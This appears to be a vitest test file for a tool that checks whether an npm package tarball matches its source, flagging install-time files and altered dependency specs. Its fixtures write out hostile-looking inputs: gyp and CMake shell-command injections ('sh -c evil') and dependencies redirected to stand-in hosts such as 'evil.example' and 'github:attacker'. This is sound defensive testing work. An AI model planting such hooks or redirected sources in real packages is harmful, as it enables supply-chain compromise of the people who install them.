/**
 * What npm runs or honours at install must come from the source: a tarball file absent from the
 * source that an install runs (or that decides what is installed) makes the verdict diverged,
 * never built.
 */
import { describe, expect, test } from 'vitest';
import { compareManifests } from '../src/verify/manifest';
import { compareFiles as verdict } from './helpers/source-compare';

const pj = (o: Record<string, unknown>) => JSON.stringify(o, null, 2) + '\n';

describe('files an install runs, absent from the source', () => {
  test('an empty install script does not stop npm building binding.gyp', () => {
    const manifest = pj({ name: 'p', version: '1.0.0', scripts: { install: '' } });
    const r = verdict({ 'package.json': manifest, 'binding.gyp': "{'targets':[{'target_name':'<!(sh -c evil)'}]}" }, { 'package.json': manifest });
    expect(r).toMatchObject({ verdict: 'diverged', files: { added: ['binding.gyp'] } });
  });

  test('config.gypi and common.gypi are read by node-gyp next to a binding.gyp from the source', () => {
    const manifest = pj({ name: 'p', version: '1.0.0' });
    const gyp = "{'targets':[{'target_name':'a','sources':['a.cc']}]}";
    const source = { 'package.json': manifest, 'binding.gyp': gyp, 'a.cc': 'int a;' };
    expect(verdict({ ...source, 'config.gypi': "{'variables':{'x':'<!(sh -c evil)'}}" }, source)).toMatchObject({ verdict: 'diverged', files: { added: ['config.gypi'] } });
    const explicit = pj({ name: 'p', version: '1.0.0', scripts: { install: 'prebuild-install || node-gyp rebuild' } });
    const withScript = { ...source, 'package.json': explicit };
    expect(verdict({ ...withScript, 'common.gypi': '{}' }, withScript)).toMatchObject({ verdict: 'diverged', files: { added: ['common.gypi'] } });
    const preGyp = pj({ name: 'p', version: '1.0.0', scripts: { install: 'node-pre-gyp install --fallback-to-build' } });
    expect(verdict({ ...source, 'package.json': preGyp, 'common.gypi': '{}' }, { ...source, 'package.json': preGyp }).files!.added).toEqual(['common.gypi']);
    const cmake = pj({ name: 'p', version: '1.0.0', scripts: { install: 'cmake-js compile' } });
    expect(verdict({ 'package.json': cmake, 'CMakeLists.txt': 'execute_process(COMMAND sh -c evil)', 'cmake/x.cmake': '' }, { 'package.json': cmake }).files!.added).toEqual(['CMakeLists.txt', 'cmake/x.cmake']);
    // Without a gyp build, a .gypi file is only build output.
    expect(verdict({ 'package.json': manifest, 'config.gypi': '{}' }, { 'package.json': manifest }).verdict).toBe('built');
  });

  test('every .gyp file of a gyp build and the CMake files of a cmake-js one, whichever install script runs it, in a bundled dependency too', () => {
    const explicit = pj({ name: 'p', version: '1.0.0', scripts: { install: 'node-gyp rebuild' } });
    const source = { 'package.json': explicit, 'binding.gyp': "{'includes':['deps/x.gyp']}" };
    expect(verdict({ ...source, 'deps/x.gyp': "{'variables':{'x':'<!(sh -c evil)'}}" }, source).files!.added).toEqual(['deps/x.gyp']);
    const cmake = pj({ name: 'p', version: '1.0.0', scripts: { preinstall: 'node check.js', install: 'cmake-js compile' } });
    const cmakeSource = { 'package.json': cmake, 'check.js': '' };
    expect(verdict({ ...cmakeSource, 'CMakeLists.txt': 'x' }, cmakeSource).files!.added).toEqual(['CMakeLists.txt']);
    const manifest = pj({ name: 'p', version: '1.0.0', bundleDependencies: ['b'], dependencies: { b: '1.0.0' } });
    const bundled = { 'node_modules/b/package.json': pj({ name: 'b', version: '1.0.0', scripts: { install: 'node-gyp rebuild' } }), 'node_modules/b/binding.gyp': '{}', 'node_modules/b/common.gypi': '{}' };
    expect(verdict({ 'package.json': manifest, ...bundled }, { 'package.json': manifest }).files!.added).toEqual(['node_modules/b/binding.gyp', 'node_modules/b/common.gypi', 'node_modules/b/package.json']);
  });

  test('`node .` runs the main entry point', () => {
    const manifest = pj({ name: 'p', version: '1.0.0', main: 'dist/index.js', scripts: { postinstall: 'node .' } });
    const r = verdict({ 'package.json': manifest, 'dist/index.js': 'evil' }, { 'package.json': manifest });
    expect(r).toMatchObject({ verdict: 'diverged', files: { added: ['dist/index.js'] } });
    const bare = pj({ name: 'p', version: '1.0.0', scripts: { install: 'node ./' } });
    expect(verdict({ 'package.json': bare, 'index.js': 'evil' }, { 'package.json': bare }).files!.added).toEqual(['index.js']);
  });

  test('a bundled dependency whose install scripts npm runs', () => {
    const manifest = pj({ name: 'p', version: '1.0.0', bundleDependencies: ['b'], dependencies: { b: '1.0.0' } });
    const bundled = pj({ name: 'b', version: '1.0.0', scripts: { postinstall: 'node setup.js' } });
    const r = verdict({ 'package.json': manifest, 'node_modules/b/package.json': bundled, 'node_modules/b/setup.js': 'evil', 'node_modules/b/lib.js': 'x' }, { 'package.json': manifest });
    expect(r.verdict).toBe('diverged');
    expect(r.files!.added).toEqual(['node_modules/b/package.json', 'node_modules/b/setup.js']);
    const gyp = verdict({ 'package.json': manifest, 'node_modules/@s/c/package.json': pj({ name: '@s/c', version: '1.0.0' }), 'node_modules/@s/c/binding.gyp': '{}' }, { 'package.json': manifest });
    expect(gyp.files!.added).toEqual(['node_modules/@s/c/binding.gyp', 'node_modules/@s/c/package.json']);
    // A bundled dependency without install scripts is build output.
    expect(verdict({ 'package.json': manifest, 'node_modules/b/package.json': pj({ name: 'b', version: '1.0.0' }) }, { 'package.json': manifest }).verdict).toBe('built');
  });

  test('node-gyp-build loads a prebuilt or built addon at install: one absent from the source is diverged', () => {
    const manifest = pj({ name: 'p', version: '1.0.0', scripts: { install: 'node-gyp-build' } });
    const source = { 'package.json': manifest, 'binding.gyp': '{}', 'index.js': 'module.exports = require("node-gyp-build")(__dirname)' };
    const prebuilt = verdict({ ...source, 'prebuilds/linux-x64/node.napi.node': 'ELF', 'prebuilds/linux-x64/README': 'x' }, source);
    expect(prebuilt).toMatchObject({ verdict: 'diverged', files: { added: ['prebuilds/linux-x64/node.napi.node'] } });
    expect(verdict({ ...source, 'build/Release/addon.node': 'ELF' }, source).files!.added).toEqual(['build/Release/addon.node']);
    const optional = pj({ name: 'p', version: '1.0.0', scripts: { install: 'node-gyp-build-optional-packages' } });
    expect(verdict({ ...source, 'package.json': optional, 'prebuilds/darwin-arm64/p.node': 'x' }, { ...source, 'package.json': optional }).verdict).toBe('diverged');
    // Not loaded at install without node-gyp-build: build output, and a .node file elsewhere is not one it loads.
    const plain = pj({ name: 'p', version: '1.0.0' });
    expect(verdict({ 'package.json': plain, 'prebuilds/linux-x64/node.napi.node': 'ELF' }, { 'package.json': plain }).verdict).toBe('built');
    expect(verdict({ ...source, 'lib/other.node': 'ELF' }, source).verdict).toBe('built');
  });

  test('an npm-shrinkwrap.json absent from the source decides the dependencies npm installs', () => {
    const manifest = pj({ name: 'p', version: '1.0.0', dependencies: { a: '^1.0.0' } });
    const shrinkwrap = JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/a': { version: '1.0.0', resolved: 'https://evil.example/a.tgz' } } });
    expect(verdict({ 'package.json': manifest, 'npm-shrinkwrap.json': shrinkwrap }, { 'package.json': manifest })).toMatchObject({ verdict: 'diverged', files: { added: ['npm-shrinkwrap.json'] } });
  });
});

describe('line endings', () => {
  test('a text file differing only in CRLF is the source file; a binary one (a NUL byte) is modified', () => {
    const manifest = pj({ name: 'p', version: '1.0.0' });
    expect(verdict({ 'package.json': manifest, 'a.txt': 'x\r\ny\r\n' }, { 'package.json': manifest, 'a.txt': 'x\ny\n' }).verdict).toBe('match');
    const binary = verdict({ 'package.json': manifest, 'a.node': 'x\u0000\ny' }, { 'package.json': manifest, 'a.node': 'x\u0000\r\ny' });
    expect(binary).toMatchObject({ verdict: 'diverged', files: { modified: ['a.node'] } });
    expect(verdict({ 'package.json': manifest, 'a.node': 'x\r\ny' }, { 'package.json': manifest, 'a.node': 'x\u0000\ny' }).verdict).toBe('diverged');
  });
});

describe('package.json fields an install reads', () => {
  test('gypfile: false dropped at publish turns an implicit node-gyp rebuild on', () => {
    const src = { name: 'p', version: '1.0.0', gypfile: false };
    expect(compareManifests(Buffer.from(pj(src)), Buffer.from(pj({ name: 'p', version: '1.0.0' })))).toEqual({ outcome: 'modified', differences: ['gypfile'] });
  });

  test('a workspace:/catalog: range is replaced at publish by a version range, never by another source', () => {
    const src = { name: 'p', version: '0.0.0', dependencies: { w: 'workspace:^', c: 'catalog:' } };
    const published = (w: string, c = '^4.17.21') => Buffer.from(pj({ name: 'p', version: '1.0.0', dependencies: { w, c } }));
    expect(compareManifests(Buffer.from(pj(src)), published('^1.2.3')).outcome).toBe('normalised');
    const aliased = { name: 'p', version: '0.0.0', dependencies: { w: 'workspace:@s/real@*' } };
    expect(compareManifests(Buffer.from(pj(aliased)), Buffer.from(pj({ name: 'p', version: '1.0.0', dependencies: { w: 'npm:@s/real@1.0.0' } }))).outcome).toBe('normalised');
    expect(compareManifests(Buffer.from(pj(aliased)), Buffer.from(pj({ name: 'p', version: '1.0.0', dependencies: { w: 'npm:@s/evil@1.0.0' } }))).outcome).toBe('modified');
    for (const spec of ['https://evil.example/w.tgz', 'github:attacker/w', 'npm:evil@1.0.0', 'file:../../w', 'latest']) {
      expect(compareManifests(Buffer.from(pj(src)), published(spec))).toEqual({ outcome: 'modified', differences: ['dependencies.w'] });
      expect(compareManifests(Buffer.from(pj(src)), published('^1.2.3', spec))).toEqual({ outcome: 'modified', differences: ['dependencies.c'] });
    }
    // Only a workspace:/catalog: spec may be replaced: a plain range changed at publish is a change, even to another range.
    const plain = { name: 'p', version: '0.0.0', dependencies: { a: '^1.0.0' }, optionalDependencies: { o: '~2.0.0' } };
    const bumped = (a: string, o = '~2.0.0') => Buffer.from(pj({ name: 'p', version: '1.0.0', dependencies: { a }, optionalDependencies: { o } }));
    expect(compareManifests(Buffer.from(pj(plain)), bumped('^1.0.0')).outcome).toBe('normalised');
    expect(compareManifests(Buffer.from(pj(plain)), bumped('>=0.0.0'))).toEqual({ outcome: 'modified', differences: ['dependencies.a'] });
    expect(compareManifests(Buffer.from(pj(plain)), bumped('^1.0.0', '*'))).toEqual({ outcome: 'modified', differences: ['optionalDependencies.o'] });
  });
});
